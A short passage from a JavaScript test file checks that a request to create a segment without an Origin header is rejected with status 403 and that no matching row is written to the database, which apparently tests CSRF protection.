    request: (fx) => ({ path: "/segments", body: { name: `csrf ${fx.stamp}` }, withoutOrigin: true }),
    status: 403,
    then: async (fx) => expect(await db().selectFrom("segments").select("id").where("name", "=", `csrf ${fx.stamp}`).execute()).toEqual([]),
  },
];
